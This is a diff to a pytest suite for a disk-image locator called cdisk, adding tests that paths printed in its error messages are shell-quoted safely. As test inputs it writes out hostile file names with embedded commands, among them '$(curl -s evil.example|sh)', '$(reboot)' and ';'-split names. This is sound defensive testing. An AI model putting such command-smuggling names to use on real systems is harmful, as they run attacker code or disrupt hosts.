@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import zlib
 from collections.abc import Callable
 
 import pytest
@@ -14,7 +15,8 @@ from cdisk.core.tree.merged import DIR, FILE, OTHER, SYMLINK, LayerMember, Merge
 
 
 def f(path: str, sparse: bool = False, size: int = 10) -> LayerMember:
-    return LayerMember(path, FILE, 0, offset=1024, size=size, sparse=sparse)
+    # Where a layer tar would hold its data: one place per path (the same place is one file, hard links).
+    return LayerMember(path, FILE, 0, offset=512 * (2 + zlib.crc32(path.encode())), size=size, sparse=sparse)
 
 
 def test_the_one_file_under_disk() -> None:
@@ -97,7 +99,7 @@ def test_a_disk_elsewhere_is_named_never_taken() -> None:
     assert _refusal(tree, {"/image/podvm.qcow2": Sniffed("qcow2")}, every=True) == expected
     spaced = MergedTree([[LayerMember("my disks/vm.img", FILE, 0, 512, 2 << 20)]])
     assert _refusal(spaced, {"/my disks/vm.img": Sniffed("raw", "GPT")}).endswith(
-        "the image holds /my disks/vm.img (raw GPT, 2.0 MiB): pass --path '/my disks/vm.img'")
+        "the image holds '/my disks/vm.img' (raw GPT, 2.0 MiB): pass --path '/my disks/vm.img'")
 
 
 def test_several_disks_elsewhere_are_named_and_bounded() -> None:
@@ -107,6 +109,44 @@ def test_several_disks_elsewhere_are_named_and_bounded() -> None:
     assert message.startswith("no disk file directly under /disk/ (found: nothing); several disk-like files: "
                               "/d00.img (raw MBR, 1.0 MiB), /d01.img (raw MBR, 1.0 MiB), ")
     assert message.endswith("/d09.img (raw MBR, 1.0 MiB), … 2 more: pass --path with one of them")
+
+
+def test_every_path_named_pastes_as_one_shell_word() -> None:
+    # A find's name can neither run code when pasted nor fake more entries of the list; one that is not printable
+    # pastes as the very name ($'…'), not as the backslashes a terminal escape would show.
+    evil, fake, newline = "img/$(curl -s evil.example|sh)/x.qcow2", "x.qcow2 (qcow2, 1.0 MiB), /y", "a b\n.qcow2"
+    tree = MergedTree([[f(evil, size=2 << 20), f(fake, size=2 << 20)]])
+    assert _refusal(tree, {f"/{evil}": Sniffed("qcow2"), f"/{fake}": Sniffed("qcow2")}) == (
+        "no disk file directly under /disk/ (found: nothing); several disk-like files: "
+        "'/x.qcow2 (qcow2, 1.0 MiB), /y' (qcow2, 2.0 MiB), '/img/$(curl -s evil.example|sh)/x.qcow2' (qcow2, "
+        "2.0 MiB): pass --path with one of them")
+    lone = MergedTree([[f(newline, size=2 << 20)]])
+    assert _refusal(lone, {f"/{newline}": Sniffed("qcow2")}) == (
+        "no disk file directly under /disk/ (found: nothing); the image holds $'/a b\\x0a.qcow2' (qcow2, 2.0 MiB): "
+        "pass --path $'/a b\\x0a.qcow2'")
+    # What /disk holds, and several disks under it, alike.
+    assert "found: '/disk/$(reboot)'" in _refusal(MergedTree([[LayerMember("disk/$(reboot)", DIR)]]), {})
+    with pytest.raises(DiskNotFoundError, match=r"several disk files in the image: '/disk/a;b', /disk/c;"):
+        find_disk(MergedTree([[f("disk/a;b"), f("disk/c")]]))
+
+
+def test_qed_and_luks_are_named_as_not_read_never_as_a_path_to_pass() -> None:
+    qed, luks, qcow2 = (f(name, size=2 << 20) for name in ("vm.qed", "vm.luks", "vm.qcow2"))
+    told = {"/vm.qed": Sniffed("qed"), "/vm.luks": Sniffed("luks"), "/vm.qcow2": Sniffed("qcow2")}
+    assert _refusal(MergedTree([[qed]]), told) == (
+        "no disk file directly under /disk/ (found: nothing); the image holds only disk-like files cdisk does not "
+        "read: /vm.qed (qed, 2.0 MiB: cdisk does not read qed); rebuild the image with a raw or qcow2 disk under "
+        "/disk/")
+    assert _refusal(MergedTree([[qed, luks]]), told).endswith(
+        "only disk-like files cdisk does not read: /vm.luks (luks, 2.0 MiB: cdisk does not read an encrypted disk), "
+        "/vm.qed (qed, 2.0 MiB: cdisk does not read qed); rebuild the image with a raw or qcow2 disk under /disk/")
+    # Beside one it reads, that one is the --path to pass; beside two, "one of them cdisk reads".
+    assert _refusal(MergedTree([[qed, qcow2]]), told) == (
+        "no disk file directly under /disk/ (found: nothing); several disk-like files: /vm.qcow2 (qcow2, 2.0 MiB), "
+        "/vm.qed (qed, 2.0 MiB: cdisk does not read qed): pass --path /vm.qcow2")
+    raw = f("vm.raw", size=2 << 20)
+    assert _refusal(MergedTree([[qed, qcow2, raw]]), {**told, "/vm.raw": Sniffed("raw", "GPT")}).endswith(
+        ": pass --path with one of them cdisk reads")
 
 
 def test_nothing_disk_like_says_as_before_and_a_cut_search_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
